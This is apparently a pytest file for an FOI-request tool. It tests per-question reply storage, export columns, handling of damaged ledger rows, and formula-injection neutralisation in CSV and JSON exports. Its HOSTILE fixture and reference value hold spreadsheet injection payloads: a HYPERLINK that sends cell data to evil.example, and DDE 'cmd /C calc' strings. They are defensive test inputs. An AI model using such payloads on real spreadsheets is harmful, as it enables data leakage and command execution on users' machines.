"""The answers as data: what `respond --file` keeps per question, the dataset's columns and their
catalogue, rows from old or damaged ledgers, and formula injection neutralised in CSV and JSON."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_lifecycle import COUNCILS  # alpha (FOIA), beta (EIR), gamma (FOISA)

from foi_sender.dataset import BASE_COLUMNS, columns, safe_cell
from foi_sender.schema import load_schema

REPLIES = Path(__file__).parent / "fixtures" / "replies"
SENT_AT = {"FOI_SENDER_NOW": "2025-04-14T09:30:00+01:00"}
LATER = {"FOI_SENDER_NOW": "2025-05-21T12:00:00+01:00"}


@pytest.fixture
def sent(home, run):
    (home / "councils.yaml").write_text(COUNCILS, encoding="utf-8")
    result = run("send", "r1", "--all", "--yes", env=SENT_AT)
    assert result.exit_code == 0, result.output

    def act(*args: str):
        result = run(*args, env=LATER)
        assert result.exit_code == 0, (result.stdout, result.stderr)
        return result

    return act


def export(act, fmt: str) -> dict[str, dict]:
    text = act("export", "r1", "--format", fmt).stdout
    rows = json.loads(text) if fmt == "json" else list(csv.DictReader(io.StringIO(text)))
    return {row["council"]: row for row in rows}


def response_data(home: Path, council: str) -> dict:
    with sqlite3.connect(home / "foi.sqlite") as db:
        (data,) = db.execute(
            "SELECT e.data FROM events e JOIN requests r ON r.id = e.request_id "
            "WHERE r.council_id = ? AND e.kind = 'response'",
            (council,),
        ).fetchone()
    return json.loads(data)


def test_respond_keeps_every_question_in_the_contract_shape(sent, home):
    sent("respond", "r1", "alpha", "--file", str(REPLIES / "manchester-letter.pdf"))
    questions = response_data(home, "alpha")["questions"]
    assert list(questions) == ["1", "2", "3", "4", "5"]
    assert questions["3"] == {
        "status": "withheld",
        "text": "Yes, Placements North West. Its pricing schedule is commercially sensitive and "
        "is withheld under section 43(2).",
        "exemptions": ["s43(2)"],
        "redirected_to": None,
        "fields": {
            "q3_uses_framework": True,
            "q3_framework_name": "Placements North West",
            "q3_contact": None,
        },
        "evidence": "Its pricing schedule is commercially sensitive and is withheld under "
        "section 43(2).",
    }
    assert questions["5"]["fields"] == {"q5_spot_purchase_count": 47, "q5_as_of": "2025-05-21"}


SHIPPED_NAMES = [c.name for c in BASE_COLUMNS] + [
    "q1_status", "q1_text", "q1_exemptions", "q1_redirected_to",
    "q1_manager_name", "q1_manager_email", "q1_manager_phone",
    "q2_status", "q2_text", "q2_exemptions", "q2_redirected_to", "q2_referrals_email",
    "q3_status", "q3_text", "q3_exemptions", "q3_redirected_to",
    "q3_uses_framework", "q3_framework_name", "q3_contact",
    "q4_status", "q4_text", "q4_exemptions", "q4_redirected_to", "q4_direct_placements",
    "q5_status", "q5_text", "q5_exemptions", "q5_redirected_to",
    "q5_spot_purchase_count", "q5_as_of",
]  # fmt: skip


def test_columns_of_the_shipped_request_and_their_catalogue():
    table = columns(load_schema(None, "placements_request"))
    assert [c.name for c in table] == SHIPPED_NAMES
    kinds = {"text", "date", "integer", "yes_no", "email", "phone", "list", "status", "outcome"}
    for column in table:
        assert column.description and column.source and column.type in kinds, column
    by_name = {c.name: c for c in table}
    assert by_name["q5_as_of"].type == "date"
    assert by_name["q4_direct_placements"].type == "yes_no"
    assert "placements_request.questions.yaml" in by_name["q1_manager_phone"].source
    assert "spot purchase" in by_name["q5_spot_purchase_count"].description


def test_export_rows_carry_statuses_and_typed_fields(sent):
    sent("respond", "r1", "alpha", "--file", str(REPLIES / "brighton-cp1252.txt"))
    sent("respond", "r1", "gamma", "--file", str(REPLIES / "edinburgh-foisa.txt"))
    rows = export(sent, "json")
    alpha, beta, gamma = rows["alpha"], rows["beta"], rows["gamma"]
    assert list(alpha) == SHIPPED_NAMES
    assert alpha["outcome"] == "partially_successful"
    assert (alpha["q4_status"], alpha["q4_exemptions"]) == ("cost_limit", ["s12"])
    assert alpha["q1_manager_phone"] == "01273 290000"
    assert alpha["q5_spot_purchase_count"] == 21 and alpha["q5_as_of"] == "2025-03-31"
    assert gamma["q1_status"] == "withheld" and gamma["q1_exemptions"] == ["s38(1)(b)"]
    assert gamma["q5_spot_purchase_count"] is None  # "Fewer than 5" is no count
    assert all(beta[f"q{n}_status"] is None for n in range(1, 6))  # not answered yet
    csv_rows = export(sent, "csv")
    assert csv_rows["alpha"]["q3_uses_framework"] == "yes"
    assert csv_rows["alpha"]["exemptions"] == "s12"


def test_a_reply_recorded_by_hand_has_no_statuses(sent):
    sent("respond", "r1", "beta", "--on", "2025-05-01", "--outcome", "refused")
    beta = export(sent, "json")["beta"]
    assert beta["outcome"] == "refused"
    assert [beta[f"q{n}_status"] for n in range(1, 6)] == [None] * 5


def set_response_data(home: Path, council: str, data: dict) -> None:
    with sqlite3.connect(home / "foi.sqlite") as db:
        db.execute(
            "UPDATE events SET data = ? WHERE kind = 'response' AND request_id = "
            "(SELECT id FROM requests WHERE council_id = ?)",
            (json.dumps(data), council),
        )


def test_an_older_row_gives_its_answers_as_text(sent, home):
    """A response recorded before questions were kept: its answers still fill qN_text."""
    sent(
        "respond",
        "r1",
        "alpha",
        "--file",
        str(REPLIES / "leicester-2025.txt"),
        "--on",
        "2025-05-07",
    )
    data = response_data(home, "alpha")
    del data["questions"]
    set_response_data(home, "alpha", data)
    alpha = export(sent, "json")["alpha"]
    assert alpha["q5_text"] == "62" and alpha["q5_status"] is None
    assert alpha["outcome"] == "partially_successful"


@pytest.mark.parametrize(
    "questions",
    [
        "not a mapping",
        {"1": "answered"},
        {"one": {"status": "answered"}},
        {"1": {"status": 5, "text": "x"}},
        {"1": {"status": "answered", "text": "x", "exemptions": "s40", "redirected_to": None,
               "fields": {}, "evidence": ""}},
    ],
)  # fmt: skip
def test_a_malformed_stored_question_does_not_break_the_export(sent, home, questions):
    sent("respond", "r1", "alpha", "--file", str(REPLIES / "coventry-2025.txt"))
    data = response_data(home, "alpha")
    data["questions"] = (
        questions if not isinstance(questions, dict) else {**data["questions"], **questions}
    )
    set_response_data(home, "alpha", data)
    alpha = export(sent, "json")["alpha"]
    assert alpha["outcome"] == "successful"
    assert alpha["q2_status"] == ("answered" if isinstance(questions, dict) else None)
    sent("status", "r1")  # every reader survives it


HOSTILE = (
    '1. Manager?\n=HYPERLINK("http://evil.example/?"&A1,"Click")\n'
    "2. Email?\n@SUM(1+1)*cmd|' /C calc'!A0\n"
    "3. Framework?\n+44 20 7946 0000 is our number\n"
    "4. Direct?\n-1+1\n"
    "5. How many?\n\t=1+2\n"
)


def test_formula_injection_is_neutralised_in_csv_and_json(sent, tmp_path):
    reply = tmp_path / "reply.txt"
    reply.write_text(HOSTILE, encoding="utf-8")
    ref = "=cmd|'/C calc'!A0"
    sent("respond", "r1", "alpha", "--on", "2025-05-02", "--file", str(reply), "--reference", ref)
    text = sent("export", "r1", "--format", "csv").stdout
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    rows = export(sent, "csv")
    assert rows["alpha"]["q1_text"].startswith("'=HYPERLINK(")
    assert rows["alpha"]["reference"] == "'" + ref
    alpha = export(sent, "json")["alpha"]
    assert alpha["q2_text"].startswith("'@SUM(")
    assert alpha["q4_text"] == "'-1+1"


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("placements@x.gov.uk", "placements@x.gov.uk"),
        ("", ""),
        (None, None),
        (-1, -1),
        (True, True),
        (["=a", "s40(2)"], ["'=a", "s40(2)"]),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


@given(st.text())
def test_safe_cell_never_leaves_a_formula(text):
    cell = safe_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell.removeprefix("'") == text or cell == text
